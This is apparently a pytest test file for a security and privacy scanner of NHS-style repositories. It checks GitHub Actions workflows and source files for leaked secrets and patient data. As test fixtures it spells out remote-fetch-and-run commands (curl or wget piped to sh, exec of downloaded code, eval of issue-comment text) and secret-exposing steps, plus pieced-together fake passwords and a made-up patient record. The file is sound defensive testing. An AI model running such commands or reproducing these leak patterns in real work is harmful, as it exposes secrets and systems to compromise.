"""Classes of leaks that a ninth stranger planted, in other forms than theirs. Values are made at run time, or stand in pieces."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from nhsr_registry import leaks
from nhsr_registry.checks._base import Subject
from nhsr_registry.checks._leaks import numbers
from nhsr_registry.checks.workflow_safe import WorkflowSafe
from nhsr_registry.clones import read_folder
from nhsr_registry.model import Finding
from nhsr_registry.snapshot import Snapshot
from tests.leaks.test_leaks import rules

PUSH = "on:\n  push:\n    branches: [main]\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
GIVEN = "        env:\n          GITHUB_PAT: ${{ secrets.PAT }}\n"
OF_JOB = "    env:\n      T: ${{ secrets.T }}\n"
RAW = "https://gist.github" + "usercontent.com/x/raw/q"
STEP = "    steps:\n      - run: "


def of_workflow(text: str) -> Finding:
    return WorkflowSafe.run(Subject(snapshot=Snapshot.of({".github/workflows/a.yml": text})))


@pytest.mark.parametrize(
    "job",
    [
        f"{OF_JOB}{STEP}wget -qO- {RAW}.sh | sh\n",
        f"{OF_JOB}{STEP}|\n          curl -o i.sh https://example.org/i.sh\n          bash i.sh\n",
        f"{STEP}source <(curl -s {RAW}.sh)\n{GIVEN}",
        f"{STEP}Rscript -e 'source(\"{RAW}.R\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'devtools::source_url(\"https://example.org/a.R\")'\n{GIVEN}",
        f"{STEP}python -c \"import urllib.request as u; exec(u.urlopen('{RAW}.py').read())\"\n{GIVEN}",
        f"    permissions:\n      contents: write\n{STEP}curl -s {RAW}.sh | sh\n",
        f"{STEP}Rscript -e 'remotes::install_github(\"someone/helpers\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'pak::pak(\"someone/helpers\")'\n{GIVEN}",
        f"{STEP}pip install git+https://github.com/someone/tool.git\n{GIVEN}",
        f"{STEP}pip install git+https://github.com/someone/tool@main\n{GIVEN}",
        f"{STEP}npx someone/tool\n{GIVEN}",
        f"{STEP}git clone https://github.com/someone/tool && ./tool/run.sh\n{GIVEN}",
        "    container:\n      image: someone/docs-plus:latest\n      env:\n        T: ${{ secrets.T }}\n    steps:\n      - run: make\n",
        f"{STEP}docker run -e T=${{{{ secrets.T }}}} someone/tool\n",
        "    steps:\n      - uses: docker://someone/tool:latest\n        env:\n          T: ${{ secrets.T }}\n",
    ],
)
def test_what_runs_unseen_beside_a_secret(job: str):
    assert of_workflow(PUSH + job).outcome == "fail"


@pytest.mark.parametrize(
    "job",
    [
        f"{STEP}Rscript -e 'remotes::install_github(\"someone/helpers@v1.2\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'remotes::install_github(\"r-lib/pkgdown\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'remotes::install_github(\"someone/helpers\")'\n{GIVEN.replace('PAT }', 'GITHUB_TOKEN }')}",
        f"{STEP}pip install git+https://github.com/someone/tool@v1.0\n{GIVEN}",
        f"{STEP}pip install git+https://github.com/someone/tool\n",
        f"{OF_JOB}{STEP}|\n          curl -o i.sh https://example.org/i.sh\n          sha256sum -c i.sum\n          bash i.sh\n",
        "    container: rocker/verse:latest\n    env:\n      T: ${{ secrets.T }}\n    steps:\n      - run: make\n",
        f"    container:\n      image: someone/docs@sha256:{'a' * 64}\n{OF_JOB}{STEP}make\n",
        f"    services:\n      db:\n        image: postgres:15\n        env:\n          P: ${{{{ secrets.P }}}}\n{STEP}make\n",
        f"{STEP}docker run -v ${{{{ github.workspace }}}}/data:/data python:3.12 make\n{GIVEN}",
        f"{OF_JOB}{STEP}|\n          # curl {RAW}.sh | sh\n          make\n",
    ],
)
def test_what_is_pinned_known_or_beside_no_secret(job: str):
    assert of_workflow(PUSH + job).outcome == "pass"


def test_a_runner_of_ones_own_is_to_look_at_and_sure_on_pull_requests():
    steps = "jobs:\n  a:\n    runs-on:\n      group: ours\n      labels: [self-hosted]\n    steps:\n      - run: make\n"
    found = of_workflow(f"on: push\n{steps}")
    assert ["please look" in (one.note or "") for one in found.evidence] == [True]


@pytest.mark.parametrize(
    "text",
    [
        'on: issue_comment\njobs:\n  a:\n    steps:\n      - run: |\n          C=$(jq -r .comment.body $GITHUB_EVENT_PATH)\n          eval "$C"\n',
        "on: issues\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(github.event) }}' > e.json\n",
        "on: pull_request_target\njobs:\n  a:\n    env:\n      S: ${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git fetch origin $S && make\n",
        f"{PUSH}{STEP}curl -k -H 'X: ${{{{ secrets.T }}}}' https://example.org\n",
        f"{PUSH}{STEP}curl http://example.org/i.sh | sudo bash\n",
        f"{PUSH}{STEP}python -c 'import os; print(os.environ)'\n{GIVEN}",
        f'{PUSH}{STEP}gh issue create --body "key $GITHUB_PAT"\n{GIVEN}',
        f"{PUSH}{STEP}gh release upload v1 data/patients.csv\n",
        f"{PUSH}    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: .Renviron\n",
        f"{PUSH}    permissions:\n      contents: write\n    steps:\n      - uses: someone/push-action@master\n",
    ],
)
def test_what_a_workflow_gives_away(text: str):
    assert of_workflow(text).outcome == "fail"


@pytest.mark.parametrize(
    "text",
    [
        f"{PUSH}{STEP}npm publish --tag next --access public\n",
        f"{PUSH}{STEP}curl -k https://example.org\n",
        f"{PUSH}{STEP}curl -fsSL -H 'X: ${{{{ secrets.T }}}}' https://example.org\n",
        f"{PUSH}    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: output/\n",
        f"{PUSH}{STEP}gh release upload v1 dist/waits.tar.gz\n",
        "on: pull_request\njobs:\n  a:\n    env:\n      S: ${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git fetch origin $S && make\n",
        'on: issues\njobs:\n  a:\n    env:\n      T: ${{ github.event.issue.title }}\n    steps:\n      - run: echo "$T"\n',
    ],
)
def test_what_a_workflow_keeps(text: str):
    assert of_workflow(text).outcome == "pass"


ONE, TWO, THREE, FOUR, FIVE = numbers(5)
MIXED, CHOSEN, PHRASE = "Canal&Narr" + "ow6", "wren" + "house7", "brisk-otter-" + "ledger-Tay"
DRAWN = "aB3dE5fG7hJ9" + "kL1mN3pQ5rS7" + "tU9vW1xYZz12"
CODED = base64.b64encode(b"reader:" + b"$Qw9i" + b"l9WVvP").decode()
ODD = base64.b64encode(b"reader:" + bytes([36, 13, 105, 151, 213, 188, 243, 71, 41, 200])).decode()
SQL, SERVER = "KEL" + "SQL07", "kel-" + "bi-02"
GUID = "7f3c2a10-9b4d" + "-4e5f-8a6b-1c2d3e4f5a6b"
WHO, LAST, FIRST, UNIT, CODE = "Kenneth Iq" + "bal", "Iq" + "bal", "Ken" + "neth", "H538" + "5321", "CT2 3" + "HW"
BORN, DAY = "13/09/" + "1966", "1966-" + "09-13"

FOUND = [
    # passwords told in words, in headers, in a notebook's code
    ("password", "a.md", f"If it asks for a login use **.\\reports** with **{MIXED}** (same on all)."),
    ("password", "a.md", f"The account is `train03`; the current passphrase is *{PHRASE}*."),
    ("password", "a.md", f"When it prompts, enter {MIXED}"),
    ("password", "a.md", f"Ask Sam, or just use {MIXED} which is the team's"),
    ("password", "a.md", f"* password - {CHOSEN}"),
    ("password", "a.py", f'"""Needs the reporting account: ward_ro, {MIXED}."""'),
    ("password", "a.R", f"# p/w {MIXED}"),
    ("password", "a.html", f"<p>Log in with <b>ward_ro</b> and <code>{MIXED}</code></p>"),
    ("password", "a.vtt", f"00:01 --> 00:02\nand the password is {MIXED}"),
    ("password", "A.java", f'private static final String AUTH = "Basic {CODED}";'),
    ("password", "a.kt", f'val auth = "Basic {ODD}"'),
    ("password", "a.ipynb", f'    "c = cx_Oracle.connect(\\"ro\\", \\"{MIXED}\\", \\"h\\")\\n",'),
    ("password", "a.ipynb", f'    "requests.get(u, auth=(\\"me_ro\\", \\"{MIXED}\\"))\\n",'),
    ("password", "a.yml", f"auth: {{user: me, pass: {MIXED}}}"),
    ("access-token", "a.sh", f"git clone https://{DRAWN}@dev.azure.com/a/b"),
    # ways into a network
    ("network-folder", "a.txt", "My copy: S:\\Informatics\\Community\\Waits\\CW_v7.accdb"),
    ("network-folder", "a.log", "cannot open file 'S:/Informatics/Community/Waits/x.csv'"),
    ("internal-host", "a.md", "AnyConnect → `remote-access.haldenby-" + "ds.nhs.uk/research` group"),
    ("internal-host", "a.rdp", "gatewayhostname:s:rdg.haldenby" + ".nhs.uk"),
    ("database-server", "a.R", "dbConnect(odbc(), dsn = " + '"RiO_Live_Mirror")'),
    ("internal-host", "a.xml", f"<Value>[{SQL}].[labbase2]</Value>"),
    ("internal-host", "a.md", f"Ask IT for access to the server {SERVER}."),
    ("internal-host", "a.log", "[2024-01-01 01:00:00] " + "KELETL" + "02 INFO start"),
    ("internal-host", "a.py", "mlflow.set_tracking_uri('http://kel" + "ml01:5000')"),
    ("internal-host", "a.sh", "psql -h kel" + "pg01 -U me dw"),
    ("workspace-address", "a.json", f'{{"subscriptionId": "{GUID}"}}'),
    # numbers
    (
        "nhs-number-list",
        "tests/test_a.py",
        f'I = ["{ONE}", "{TWO}", "{THREE}", "{FOUR}", "{FIVE}"]\nJ = ["9990000018", "9990000026", "9990000034", "6540329800"]',
    ),
    ("nhs-number", "a.py", f"x = 4294967295\ndf.loc['{ONE}']"),
    ("person-values", "A.java", f"// MRN {UNIT} ({WHO}) has two open visits"),
    ("person-values", "a.ts", f"/* MRN: {UNIT} fails to load */"),
    # one person's record
    ("person-values", "a.log", f"rejected row 88: ['{LAST.upper()}', '{FIRST}', '{DAY}', '{CODE}', 'x']"),
    ("person-values", "a.log", f"bad record {LAST.upper()}|{FIRST.upper()}|{BORN}|{CODE}"),
    ("person-values", "a.out", f"Key (surname, dob)=({LAST.upper()}, {DAY}) already exists."),
    ("person-values", "a.sql", f"INSERT INTO P (Forename, Surname, DOB) VALUES ('{FIRST}', '{LAST}', '{DAY}');"),
    ("person-values", "A.java", f'new Patient("{FIRST}", "{LAST}", LocalDate.of(1966, 9, 13))'),
    ("person-values", "A.cs", f'new Patient {{ Surname = "{LAST}", DateOfBirth = new DateTime(1966, 9, 13) }}'),
    ("person-values", "a.html", f"<tr><td>{WHO}</td><td>{BORN}</td><td>{CODE}</td></tr>"),
    ("person-values", "a.json", f'{{"patient": {{"name": "{WHO}", "mrn": "{UNIT}"}}}}'),
    ("person-values", "a.R", f"df$dob[df$surname == '{LAST}'] <- as.Date('{DAY}')"),
    ("person-values", "vignettes/a.Rmd", f'"{WHO} (DOB {BORN}) seen at home by CPN."'),
]

FINE = [
    ("a.md", "Log in with your NHS mail account and choose R&D1 in the list"),
    ("a.md", "The password must contain Letters&Numbers and signs"),
    ("a.md", "Use C++17 and node-18 on ubuntu-22, the server runs on Windows-2019"),
    ("a.md", "Data are for LSOA21 areas with COVID19 counts, hosted on GitHub"),
    ("a.R", 'dbConnect(odbc(), dsn = "SMRA")'),
    ("a.md", "Save it in C:\\Users\\you\\Documents\\project\\x.csv"),
    ("a.md", "See https://remote-working.england" + ".nhs.uk/guidance for advice"),
    ("a.yml", "services:\n  es:\n    url: http://es:9200"),
    ("vignettes/a.Rmd", '"Made-up example: patient reports feeling low. Plan: review in two weeks."'),
    ("a.sql", "INSERT INTO Site (Name, Postcode) VALUES ('St Example Hospital', 'CT2 3" + "HW');"),
    ("a.java", "// Author Jeremy Stein, 12/03/2019"),
    ("a.log", "2024-01-01 06:00:00 INFO provider R7P rows=760"),
    ("a.py", "h = {'Authorization': 'Basic ' + token}"),
]


@pytest.mark.parametrize(("rule", "path", "text"), FOUND)
def test_found(rule: str, path: str, text: str):
    assert rule in rules(path, text)


@pytest.mark.parametrize(("path", "text"), FINE)
def test_nothing_to_see(path: str, text: str):
    assert rules(path, text) == set()


@pytest.mark.parametrize(
    "name", ["Dockerfile-icb", "run.sbatch", "a.frm", "src.conmgr", "a.Rmarkdown", ".gitconfig", "Snakefile"]
)
def test_kinds_of_files_that_are_read_too(tmp_path: Path, name: str):
    (tmp_path / name).write_text(f'# x\nconn <- "Driver=SQL Server;Server={SQL};UID=etl_user;PWD={MIXED};"\n')
    assert {hit.path for hit in leaks.scan(read_folder(tmp_path, wanted=leaks.READS))} == {name}
